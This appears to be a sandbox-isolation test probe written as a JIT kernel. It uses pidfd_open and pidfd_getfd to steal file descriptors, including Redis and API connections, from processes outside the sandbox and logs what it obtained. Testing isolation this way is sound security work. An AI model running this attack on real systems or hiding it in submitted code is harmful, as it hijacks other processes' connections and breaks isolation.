"""Attack: pidfd_open() the parent and the victims, then pidfd_getfd() their
file descriptors (the worker's connections to Redis and the API).  Nothing
is written on a stolen descriptor."""
# @@PRELUDE@@


@nki.jit
def kernel(x):
    for pid in outside_pids():
        pfd, e = sys_call("pidfd_open", pid, 0)
        if pfd < 0:
            R.note("pidfd_open %d %s" % (pid, ename(e)))
            continue
        stolen, last = [], 0
        for target_fd in range(0, 64):
            fd, e = sys_call("pidfd_getfd", pfd, target_fd, 0)
            if fd >= 0:
                try:
                    kind = os.readlink("/proc/self/fd/%d" % fd)
                except OSError:
                    kind = "?"
                stolen.append("%d=%s" % (target_fd, kind[:24]))
                os.close(fd)
            elif e != _errno.EBADF:
                last = e
        os.close(pfd)
        if stolen:
            R.leak("pidfd_getfd took fds of %d: %s" % (pid, ",".join(stolen[:6])))
        else:
            R.note("pidfd_getfd %d %s" % (pid, ename(last) if last else "EBADF"))
    R.finish()
